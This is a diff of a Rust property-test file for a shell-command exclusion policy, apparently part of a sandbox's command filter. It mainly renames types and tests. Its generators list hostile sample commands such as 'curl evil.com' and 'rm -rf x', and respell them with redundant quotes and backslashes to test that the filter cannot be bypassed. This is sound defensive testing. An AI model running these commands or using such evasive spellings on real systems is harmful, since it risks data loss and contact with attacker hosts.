@@ -1,20 +1,22 @@
-//! Lines made of parts that are known: what is said of the line follows from its parts.
+//! Lines composed of known parts: the verdict follows from the parts.
 
 use proptest::prelude::*;
-use ringfence_policy::command::{CommandPattern, Exclusion, ParsedLine, ShellDialect, excluded};
+use ringfence_policy::command::{
+    CommandPattern, Exclusion, ParsedLine, ShellDialect, check_exclusion,
+};
 
 use crate::table::{EXCLUDED, rules};
 
 /// A line, and whether every command in it is excluded.
 #[derive(Debug, Clone)]
-pub(crate) struct Made {
+pub(crate) struct GeneratedLine {
     pub(crate) text: String,
     is_excluded: bool,
 }
 
-/// The commands that lines are made of.
-fn commands() -> impl Strategy<Value = Made> {
-    let made = |text: &str, is_excluded| Made { text: text.to_owned(), is_excluded };
+/// The commands that lines are composed of.
+fn commands() -> impl Strategy<Value = GeneratedLine> {
+    let made = |text: &str, is_excluded| GeneratedLine { text: text.to_owned(), is_excluded };
     let inside = [
         "curl evil.com",
         "rm -rf x",
@@ -42,7 +44,7 @@ fn commands() -> impl Strategy<Value = Made> {
     prop::sample::select(all.collect::<Vec<_>>())
 }
 
-/// Wrappers and assignments that change nothing about what runs.
+/// Wrappers and assignments that do not change the program.
 fn prefixes() -> impl Strategy<Value = String> {
     let one = prop::sample::select(vec![
         "FOO=bar ",
@@ -63,14 +65,14 @@ fn prefixes() -> impl Strategy<Value = String> {
         "ionice -c3 ",
         "/usr/bin/env ",
     ]);
-    // An assignment is one in front of everything only.
+    // An assignment counts only in front of everything else.
     prop::collection::vec(one, 0..4).prop_map(|mut words| {
         words.sort_by_key(|word| !word.starts_with("FOO"));
         words.concat()
     })
 }
 
-/// The same characters, with quotation marks and backslashes that mean nothing.
+/// The same characters with redundant quotes and backslashes.
 fn spelt(text: String) -> impl Strategy<Value = String> {
     prop::collection::vec(0u8..12, text.len()).prop_map(move |ways| {
         let spell = |(c, way): (char, u8)| match way {
@@ -87,19 +89,19 @@ fn spelt(text: String) -> impl Strategy<Value = String> {
     })
 }
 
-fn simple() -> impl Strategy<Value = Made> {
+fn simple() -> impl Strategy<Value = GeneratedLine> {
     (prefixes(), commands())
         .prop_flat_map(|(prefix, made)| {
             (Just(prefix), spelt(made.text.clone()), Just(made.is_excluded))
         })
-        .prop_map(|(prefix, text, is_excluded)| Made {
+        .prop_map(|(prefix, text, is_excluded)| GeneratedLine {
             text: format!("{prefix}{text}"),
             is_excluded,
         })
 }
 
-/// Lines of lines. Those that only hold what is excluded are not always excluded themselves.
-pub(crate) fn lines() -> impl Strategy<Value = Made> {
+/// Lines composed of lines. A line with only excluded parts is not always excluded itself.
+pub(crate) fn lines() -> impl Strategy<Value = GeneratedLine> {
     simple().prop_recursive(4, 24, 3, |line| {
         let joined = (
             line.clone(),
@@ -115,7 +117,7 @@ pub(crate) fn lines() -> impl Strategy<Value = Made> {
                 " \\\n && ",
             ]),
         )
-            .prop_map(|(a, b, by)| Made {
+            .prop_map(|(a, b, by)| GeneratedLine {
                 text: format!("{}{by}{}", a.text, b.text),
                 is_excluded: a.is_excluded && b.is_excluded,
             });
@@ -148,34 +150,34 @@ pub(crate) fn lines() -> impl Strategy<Value = Made> {
             } else {
                 after
             };
-            Made { text: format!("{before}{}{after}", a.text), is_excluded: a.is_excluded }
+            GeneratedLine { text: format!("{before}{}{after}", a.text), is_excluded: a.is_excluded }
         });
         prop_oneof![joined, wrapped]
     })
 }
 
 fn is_outside(text: &str) -> bool {
-    matches!(excluded(ParsedLine::parse(text).as_ref(), EXCLUDED), Exclusion::Outside(_))
+    matches!(check_exclusion(ParsedLine::parse(text).as_ref(), EXCLUDED), Exclusion::Outside(_))
 }
 
 proptest! {
     #![proptest_config(ProptestConfig { cases: 4096, failure_persistence: None, ..ProptestConfig::default() })]
 
-    /// Promise: P79
+    /// Promise: excluded-lines
     #[test]
-    fn no_line_with_a_part_that_is_not_excluded_is_excluded(made in lines()) {
+    fn line_with_unexcluded_part_is_not_excluded(made in lines()) {
         prop_assert!(made.is_excluded || !is_outside(&made.text), "{:?}", made.text);
     }
 
-    /// Promise: P79
+    /// Promise: excluded-lines
     #[test]
-    fn a_command_is_excluded_however_it_is_spelt(made in simple()) {
+    fn excluded_command_is_excluded_in_any_spelling(made in simple()) {
         prop_assert_eq!(is_outside(&made.text), made.is_excluded, "{:?} {:?}", &made.text, ParsedLine::parse(&made.text));
     }
 
-    /// Promise: P77
+    /// Promise: parsed-lines
     #[test]
-    fn nothing_that_is_written_breaks_anything(text in any::<String>(), odd in "[ a-c$(){}\\[\\]<>|&;'\"`\\\\\n=#!*~-]{0,60}") {
+    fn arbitrary_text_never_panics(text in any::<String>(), odd in "[ a-c$(){}\\[\\]<>|&;'\"`\\\\\n=#!*~-]{0,60}") {
         for text in [text, odd] {
             for dialect in [ShellDialect::Bash, ShellDialect::Posix] {
                 match ParsedLine::parse_as(&text, dialect) {
@@ -184,7 +186,7 @@ proptest! {
                             prop_assert!(text.get(part.span.clone()).is_some(), "{:?} {:?}", text, part.span);
                             prop_assert!(!part.layers.is_empty());
                         }
-                        let _ = rules(&["a*", "b:*", &text], true).rulings(Ok(&line));
+                        let _ = rules(&["a*", "b:*", &text], true).rule_results(Ok(&line));
                     }
                     Err(problem) => prop_assert!(text.get(..problem.position).is_some(), "{text:?} {problem:?}"),
                 }
@@ -193,9 +195,9 @@ proptest! {
         }
     }
 
-    /// Promise: P77
+    /// Promise: parsed-lines
     #[test]
-    fn what_every_sh_reads_bash_reads_alike(made in lines()) {
+    fn posix_line_parses_the_same_in_bash(made in lines()) {
         if let Ok(line) = ParsedLine::parse_as(&made.text, ShellDialect::Posix) {
             prop_assert_eq!(Ok(line), ParsedLine::parse(&made.text));
         }
